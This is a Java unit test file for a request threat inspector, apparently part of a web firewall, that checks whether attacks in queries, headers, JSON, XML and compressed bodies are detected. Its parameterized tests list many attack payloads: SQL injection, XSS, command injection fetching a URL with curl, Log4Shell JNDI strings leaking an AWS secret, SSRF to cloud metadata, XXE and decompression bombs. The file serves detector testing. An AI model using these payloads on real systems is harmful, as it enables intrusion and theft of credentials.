package dev.portcullis.threat;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

import dev.portcullis.policy.document.RouteTraits.Threats;
import dev.portcullis.policy.document.ThreatMode;
import dev.portcullis.request.AccessRequest;
import dev.portcullis.request.BodySource;
import dev.portcullis.request.BodySource.Peek;
import dev.portcullis.request.Finding;
import dev.portcullis.request.Finding.Category;
import dev.portcullis.request.HttpFields;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ThreatInspectorTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '^',
      value = {
        "SQL_INJECTION~' or 1=1--",
        "SQL_INJECTION~1 or 1=1",
        "SQL_INJECTION~admin'--",
        "SQL_INJECTION~\") or (\"a\"=\"a",
        "SQL_INJECTION~' UNION ALL SELECT NULL,NULL,version()--",
        "SQL_INJECTION~-1 union/**/select 1,2,3",
        "SQL_INJECTION~-1 /*!50000union*/ /*!50000select*/ 1,2,3",
        "SQL_INJECTION~1; DROP TABLE users",
        "SQL_INJECTION~1;waitfor delay '0:0:5'--",
        "SQL_INJECTION~' and sleep(5) and '1'='1",
        "SQL_INJECTION~'||(select password from users limit 1)||'",
        "SQL_INJECTION~1' ORDER BY 10#",
        "SQL_INJECTION~select * from information_schema.tables",
        "CROSS_SITE_SCRIPTING~<script>alert(1)</script>",
        "CROSS_SITE_SCRIPTING~<img src=x onerror=alert(1)>",
        "CROSS_SITE_SCRIPTING~<svg/onload=alert`1`>",
        "CROSS_SITE_SCRIPTING~\" onfocus=alert(1) autofocus x=\"",
        "CROSS_SITE_SCRIPTING~javascript:alert(document.cookie)",
        "CROSS_SITE_SCRIPTING~<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "CROSS_SITE_SCRIPTING~';alert(1)//",
        "CROSS_SITE_SCRIPTING~\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "PATH_TRAVERSAL~../../../../etc/passwd",
        "PATH_TRAVERSAL~..\\..\\..\\windows\\win.ini",
        "PATH_TRAVERSAL~/etc/passwd",
        "PATH_TRAVERSAL~file:///etc/shadow",
        "PATH_TRAVERSAL~....//....//....//etc/hosts",
        "COMMAND_INJECTION~; cat /etc/hosts",
        "COMMAND_INJECTION~| id",
        "COMMAND_INJECTION~127.0.0.1 && whoami",
        "COMMAND_INJECTION~$(curl http://example.org/x)",
        "COMMAND_INJECTION~x`id`",
        "COMMAND_INJECTION~;c'a't${IFS}/etc/hosts",
        "COMMAND_INJECTION~() { :;}; echo vulnerable",
        "COMMAND_INJECTION~& ping -c 3 10.0.0.1",
        "JNDI_INJECTION~${jndi:ldap://x/a}",
        "JNDI_INJECTION~${${lower:j}ndi:${lower:l}dap://x/a}",
        "JNDI_INJECTION~${${::-j}${::-n}di:rmi://x}",
        "JNDI_INJECTION~${jndi:dns://${env:AWS_SECRET}.x}",
        "JNDI_INJECTION~${${env:NONE:-j}ndi${env:NONE:-:}ldap://x/a}",
        "SERVER_SIDE_REQUEST_FORGERY~http://169.254.169.254/latest/meta-data/",
        "SERVER_SIDE_REQUEST_FORGERY~http://2130706433/",
        "SERVER_SIDE_REQUEST_FORGERY~http://0x7f.1:8080/admin",
        "SERVER_SIDE_REQUEST_FORGERY~http://0177.0.0.1/",
        "SERVER_SIDE_REQUEST_FORGERY~https://[::ffff:127.0.0.1]/",
        "SERVER_SIDE_REQUEST_FORGERY~http://public.example@127.0.0.1/",
        "SERVER_SIDE_REQUEST_FORGERY~http:\\\\localhost\\",
        "TEMPLATE_INJECTION~{{7*7}}",
        "TEMPLATE_INJECTION~${T(java.lang.Runtime).getRuntime().exec('id')}",
        "TEMPLATE_INJECTION~#{''.getClass().forName('x')}",
        "CODE_INJECTION~__proto__",
        "CODE_INJECTION~<?php system('id');",
        "CODE_INJECTION~!!python/object/new:os.system [id]",
        "CODE_INJECTION~<!--#exec cmd='ls' -->",
        "NOSQL_INJECTION~'; $where: 'this.a == 1",
        "NOSQL_INJECTION~db.users.drop({})",
        "LDAP_INJECTION~*)(uid=*))(|(uid=*",
        "SERVER_SIDE_REQUEST_FORGERY~gopher://127.0.0.1:6379/_x",
      })
  void anAttackIsFoundInQueryFormAndJson(Category category, String attack) {
    String encoded = URLEncoder.encode(attack, StandardCharsets.UTF_8);
    String twice = URLEncoder.encode(encoded.replace("+", "%20"), StandardCharsets.UTF_8);
    assertThat(Requests.findings("/a?q=" + encoded))
        .extracting(Finding::category)
        .contains(category);
    assertThat(Requests.findings("/a?q=" + twice)).extracting(Finding::category).contains(category);
    assertThat(Requests.body("application/x-www-form-urlencoded", "q=" + encoded))
        .extracting(Finding::category)
        .contains(category);
    var json = Requests.json("{\"a\":[{\"b\":" + OrdinaryTrafficTest.quoted(attack) + "}]}");
    assertThat(json).extracting(Finding::category).contains(category);
    assertThat(json).extracting(Finding::location).contains("body:/a/0/b");
  }

  @Test
  void offLooksAtNothing() {
    var request = request("/?q=%27or+1%3D1--", HttpFields.EMPTY, limit -> fail("read"));
    assertThat(inspect(request, ThreatMode.OFF)).isEqualTo(Inspection.Complete.CLEAN);
  }

  @Test
  void aHeadThatIsRefusedIsNotFollowedByItsBody() {
    var request = request("/?q=%27or+1%3D1--", JSON, limit -> fail("read"));
    assertThat(inspect(request, ThreatMode.BLOCK).findings()).hasSize(1);
  }

  @Test
  void aBodyThatIsTooLongToInspectIsToldApart() {
    var request = request("/", JSON, limit -> new Peek(new byte[limit], false));
    assertThat(inspect(request, ThreatMode.BLOCK))
        .isEqualTo(new Inspection.BodyTooLarge(List.of(), Threats.DEFAULT_MAX_INSPECTED));
  }

  @Test
  void aBodyOfATypeThatIsNotInspectedIsNotRead() {
    var fields = HttpFields.of("Content-Type", "application/octet-stream");
    assertThat(inspect(request("/", fields, limit -> fail("read")), ThreatMode.BLOCK))
        .isEqualTo(Inspection.Complete.CLEAN);
  }

  @Test
  void aClientThatWentAwayIsToldApart() {
    BodySource gone =
        limit -> {
          throw new IOException("reset, at /secret/place");
        };
    var inspection = inspect(request("/", JSON, gone), ThreatMode.BLOCK);
    assertThat(inspection).isInstanceOf(Inspection.BodyUnreadable.class);
    assertThat(inspection.toString()).doesNotContain("secret");
  }

  @Test
  void findingsAreBoundedInNumberAndLength() {
    var body = new StringBuilder("{\"first\":1");
    for (int i = 0; i < 500; i++) {
      body.append(",\"k")
          .append(i)
          .append("\":\"<script>")
          .append("x\\u0000".repeat(200))
          .append('"');
    }
    var findings = Requests.json(body.append('}').toString());
    assertThat(findings).hasSize(ThreatInspector.MAX_FINDINGS);
    assertThat(findings).allMatch(f -> f.evidence().length() <= 64 && f.location().length() <= 128);
    assertThat(findings).allMatch(f -> f.evidence().chars().noneMatch(Character::isISOControl));
  }

  @Test
  void aSecretIsNotEvidence() {
    String password = "' or 1=1 -- hunter2";
    var findings = Requests.json("{\"password\":\"" + password + "\"}");
    assertThat(findings).hasSize(1);
    assertThat(findings.toString()).doesNotContain("hunter2").doesNotContain("1=1");
    assertThat(Requests.header("Cookie", "sid=\"' or 1=1--").toString()).doesNotContain("1=1");
    assertThat(Requests.header("Authorization", "Bearer ' or 1=1--")).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "User-Agent|${jndi:ldap://x/a}",
        "Accept|${${::-j}ndi:ldap://x}",
        "Referer|https://x/?a=<script>alert(1)</script>",
        "Cookie|a=b; c='+or+1=1--",
        "X-Forwarded-For|${jndi:dns://x}",
        "X-Custom|../../../../etc/passwd",
        "X-Api-Version|1;cat /etc/passwd",
      })
  void headerFieldsAreInspected(String field) {
    int bar = field.indexOf('|');
    assertThat(Requests.header(field.substring(0, bar), field.substring(bar + 1))).isNotEmpty();
  }

  @Test
  void thePathIsInspected() {
    assertThat(Requests.findings("/users/1'%20or%201=1--")).isNotEmpty();
    assertThat(Requests.findings("/a;x=%3Cscript%3E/b")).isNotEmpty();
    assertThat(Requests.findings("/orders/%7B%7B7*7%7D%7D")).isNotEmpty();
    assertThat(Requests.findings("/orders/42/items;v=1/O'Brien")).isEmpty();
  }

  @Test
  void aBodyIsInspectedAsWhatItIsNotAsWhatItSays() {
    String json = "{\"a\":\"\\u003cscript\\u003e\"}";
    assertThat(Requests.body("text/plain", json)).extracting(Finding::location).contains("body:/a");
    assertThat(Requests.findings("POST", "/", HttpFields.EMPTY, json)).isNotEmpty();
    assertThat(Requests.body("text/plain", "<a b='&lt;script&gt;'/>")).isNotEmpty();
    assertThat(Requests.body("application/xml", json))
        .extracting(Finding::category)
        .contains(Category.MALFORMED_BODY);
    var twice = HttpFields.of("Content-Type", "image/png", "Content-Type", "application/json");
    assertThat(Requests.findings("POST", "/", twice, json)).isNotEmpty();
  }

  @Test
  void contentIsInspectedWithoutItsCoding() throws IOException {
    byte[] attack = gzip("{\"a\":\"' or 1=1--\"}".getBytes(StandardCharsets.UTF_8));
    assertThat(coded("gzip", attack))
        .extracting(Finding::category)
        .containsExactly(Category.SQL_INJECTION);
    assertThat(coded("gzip", new byte[] {1, 2, 3}))
        .extracting(Finding::category)
        .containsExactly(Category.MALFORMED_BODY);
    assertThat(coded("br", new byte[] {1, 2, 3}))
        .extracting(Finding::category)
        .containsExactly(Category.UNINSPECTABLE_BODY);
    assertThat(coded("gzip", gzip("{}".getBytes(StandardCharsets.UTF_8)))).isEmpty();
  }

  @Test
  void codedContentThatIsLongerThanIsLookedAtIsTooLargeAndNoAttack() throws IOException {
    var random = new Random(7);
    for (int letters : new int[] {2, 10, 64}) { // shrinks to about 1/8, 1/2, 3/4
      byte[] text = new byte[(1 << 20) + 1];
      for (int i = 0; i < text.length; i++) {
        text[i] = (byte) ('0' + random.nextInt(letters));
      }
      for (byte[] content : List.of(text, Arrays.copyOf(text, 8 << 20))) {
        for (var coded : Map.of("gzip", gzip(content), "deflate", deflated(content)).entrySet()) {
          assertThat(inspected(coded.getKey(), coded.getValue()))
              .isInstanceOf(Inspection.BodyTooLarge.class)
              .satisfies(i -> assertThat(i.findings()).isEmpty());
        }
      }
      byte[] within = Arrays.copyOf(text, 1 << 20);
      assertThat(inspected("gzip", gzip(within))).isInstanceOf(Inspection.Complete.class);
    }
  }

  @Test
  void aBombInSeveralPiecesIsOne() throws IOException {
    byte[] zeros = gzip(new byte[600 << 10]);
    byte[] members = Arrays.copyOf(zeros, 2 * zeros.length);
    System.arraycopy(zeros, 0, members, zeros.length, zeros.length);
    assertThat(coded("gzip", members))
        .extracting(Finding::category)
        .containsExactly(Category.RESOURCE_EXHAUSTION);
    assertThat(coded("deflate", deflated(new byte[64 << 20])))
        .extracting(Finding::category)
        .containsExactly(Category.RESOURCE_EXHAUSTION);
  }

  @Test
  void aBombOfZerosIsNotUnpacked() throws IOException {
    assertThat(coded("gzip", gzip(new byte[64 << 20])))
        .extracting(Finding::category)
        .containsExactly(Category.RESOURCE_EXHAUSTION);
  }

  @ParameterizedTest
  @ValueSource(strings = {"utf-7", "utf-16", "utf-16le", "utf-32", "ibm037", "x"})
  void aCharacterSetThatHidesAsciiIsNotInspected(String charset) {
    assertThat(Requests.body("application/json; charset=" + charset, "{}"))
        .extracting(Finding::category)
        .containsExactly(Category.UNINSPECTABLE_BODY);
  }

  @ParameterizedTest
  @ValueSource(strings = {"UTF-16LE", "UTF-16BE", "UTF-32BE"})
  void jsonInAnotherEncodingThanUtf8IsMalformed(String charset) throws IOException {
    var request = Requests.of("POST", "/", JSON, "{\"a\":\"<script>\"}".getBytes(charset));
    assertThat(inspect(request, ThreatMode.BLOCK).findings())
        .extracting(Finding::category)
        .containsExactly(Category.MALFORMED_BODY);
  }

  @Test
  void whatIsBuiltToExhaustIsFound() {
    assertExhausting(Requests.json("[".repeat(65) + "]".repeat(65)));
    assertExhausting(Requests.json("[".repeat(100_000)));
    assertExhausting(Requests.json("1".repeat(10_000)));
    assertExhausting(Requests.json("{\"" + "k".repeat(100_000) + "\":1}"));
    assertExhausting(Requests.json("[" + "1,".repeat(300_000) + "1]"));
    assertExhausting(Requests.findings("/?" + "a=b&".repeat(1001)));
    assertExhausting(Requests.body("application/x-www-form-urlencoded", "a&".repeat(1001)));
    assertExhausting(Requests.body("application/xml", "<a>".repeat(65) + "</a>".repeat(65)));
    assertThat(Requests.json("[".repeat(64) + "]".repeat(64))).isEmpty();
    assertThat(Requests.findings("/?" + "a=b&".repeat(999))).isEmpty();
  }

  private static void assertExhausting(List<Finding> findings) {
    assertThat(findings)
        .extracting(Finding::category)
        .containsExactly(Category.RESOURCE_EXHAUSTION);
  }

  @Test
  void duplicateNamesAreBothInspected() {
    assertThat(Requests.json("{\"a\":1,\"a\":\"<script>\"}")).isNotEmpty();
    assertThat(Requests.json("{\"a\":\"<script>\",\"a\":1}")).isNotEmpty();
    assertThat(Requests.json("{\"a\":1,\"a\":2}")).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
        "<?xml version='1.0'?><!DOCTYPE a SYSTEM 'http://x/y.dtd'><a/>",
        "<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='x'/></a>",
      })
  void documentTypesAndInclusionsAreFound(String xml) {
    assertThat(Requests.body("application/xml", xml))
        .extracting(Finding::category)
        .contains(Category.XML_EXTERNAL_ENTITY);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<?xml version='1.0'?><a b=\"c\">text &amp; more<!-- note --><d/></a>",
        "<soap:Envelope"
            + " xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>",
        "<a><![CDATA[5 < 6 & 7]]></a>",
      })
  void ordinaryXmlPasses(String xml) {
    assertThat(Requests.body("application/soap+xml; charset=utf-8", xml)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"<a", "<a b=c>", "<a b='c>", "<a><!-- ", "</a>", "<a>", "x", "<a><![CDATA["})
  void brokenXmlIsMalformed(String xml) {
    assertThat(Requests.body("text/xml", xml))
        .extracting(Finding::category)
        .containsExactly(Category.MALFORMED_BODY);
  }

  @Test
  void theFieldsOfAMultipartFormAreInspectedItsFilesAreNot() {
    String part = "--x\r\nContent-Disposition: form-data; name=\"%s\"%s\r\n\r\n%s\r\n";
    String type = "multipart/form-data; boundary=x";
    assertThat(Requests.body(type, part.formatted("a", "", "hello") + "--x--\r\n")).isEmpty();
    assertThat(Requests.body(type, part.formatted("a", "", "<script>") + "--x--\r\n"))
        .extracting(Finding::location)
        .containsExactly("body:a");
    assertThat(
            Requests.body(type, part.formatted("a", "; filename=\"b.html\"", "<script>") + "--x--"))
        .isEmpty();
    assertThat(Requests.body(type, part.formatted("a", "; filename=\"../../../b\"", "x") + "--x--"))
        .isNotEmpty();
    assertThat(Requests.body(type, part.formatted("a", "", "hello")))
        .extracting(Finding::category)
        .containsExactly(Category.MALFORMED_BODY);
  }

  @ParameterizedTest
  @ValueSource(strings = {"{\"a\":1,}", "{", "", "[1 2]", "{'a':1}", "{\"a\":01}", "{}{}", "nul"})
  void aBodyThatIsNotItsStructureIsNoAttack(String json) {
    var findings = Requests.json(json);
    assertThat(findings).isEqualTo(findings.stream().filter(f -> !f.category().attack()).toList());
    assertThat(findings).hasSize(json.isEmpty() ? 0 : 1);
  }

  @ParameterizedTest
  @ValueSource(strings = {"a=%", "a=%4", "a=%zz", "%=b", "a=1&b=100%&c=2", "a=%u0041"})
  void aFormWithABrokenEscapeIsMalformed(String form) {
    assertThat(Requests.body("application/x-www-form-urlencoded", form))
        .extracting(Finding::category)
        .containsExactly(Category.MALFORMED_BODY);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<a></b>",
        "<a/><b/>",
        "<a/>text",
        "<a>&nbsp;</a>",
        "<a>&</a>",
        "<a b='&x;'/>",
        "<!-- -->",
        "<a b='<'/>",
        "<a>&#xg;</a>",
        "<a>&#;</a>",
        "<?xml version='1.0'?>"
      })
  void xmlThatIsNotWellFormedIsMalformed(String xml) {
    assertThat(Requests.body("application/xml", xml))
        .extracting(Finding::category)
        .containsExactly(Category.MALFORMED_BODY);
  }

  @ParameterizedTest
  @ValueSource(strings = {"utf-7", "UTF-16", "ibm037", "x"})
  void anXmlEncodingThatHidesAsciiIsNotInspected(String encoding) {
    String xml = "<?xml version=\"1.0\" encoding = \"" + encoding + "\"?><a/>";
    assertThat(Requests.body("application/xml", xml))
        .extracting(Finding::category)
        .containsExactly(Category.UNINSPECTABLE_BODY);
    assertThat(Requests.body("application/xml", xml.replace(encoding, "utf-8"))).isEmpty();
    assertThat(Requests.body("application/xml", "<?xml version='1.0'?><a>&#x41;&amp;</a>"))
        .isEmpty();
  }

  @Test
  void aLongTextAndALongFormOfPartsAreLookedAtFurtherAndNothingElse() {
    var text = HttpFields.of("Content-Type", "text/plain");
    var parts = HttpFields.of("Content-Type", "multipart/form-data; boundary=x");
    String begin = "--x\r\nContent-Disposition: form-data; name=f; filename=f\r\n\r\n";
    for (var fields : List.of(text, HttpFields.EMPTY, parts)) {
      byte[] start = begin.getBytes(StandardCharsets.US_ASCII);
      var request = request("/", fields, limit -> new Peek(start, false));
      assertThat(inspect(request, ThreatMode.BLOCK)).isInstanceOf(Inspection.Continued.class);
    }
    var coded = HttpFields.of("Content-Type", "text/plain", "Content-Encoding", "gzip");
    for (var fields : List.of(JSON, coded, HttpFields.of("Content-Type", "text/xml"))) {
      var request = request("/", fields, limit -> new Peek(new byte[limit], false));
      assertThat(inspect(request, ThreatMode.BLOCK)).isInstanceOf(Inspection.BodyTooLarge.class);
    }
  }

  private static final HttpFields JSON = HttpFields.of("Content-Type", "application/json");

  private static List<Finding> coded(String coding, byte[] body) {
    return inspected(coding, body).findings();
  }

  private static Inspection inspected(String coding, byte[] body) {
    var fields = HttpFields.of("Content-Type", "application/json", "Content-Encoding", coding);
    return inspect(Requests.of("POST", "/", fields, body), ThreatMode.BLOCK);
  }

  private static byte[] deflated(byte[] content) throws IOException {
    var bytes = new ByteArrayOutputStream();
    try (var deflate = new DeflaterOutputStream(bytes)) {
      deflate.write(content);
    }
    return bytes.toByteArray();
  }

  private static byte[] gzip(byte[] content) throws IOException {
    var bytes = new ByteArrayOutputStream();
    try (var gzip = new GZIPOutputStream(bytes)) {
      gzip.write(content);
    }
    return bytes.toByteArray();
  }

  private static AccessRequest request(String target, HttpFields fields, BodySource body) {
    var r = Requests.of("POST", target, fields, new byte[0]);
    return new AccessRequest(
        r.id(),
        r.receivedAt(),
        r.method(),
        r.scheme(),
        r.host(),
        r.path(),
        r.query(),
        r.protocol(),
        r.fields(),
        r.client(),
        r.certificates(),
        body);
  }

  private static Inspection inspect(AccessRequest request, ThreatMode mode) {
    return new ThreatInspector().inspect(request, Corpora.route(mode));
  }
}
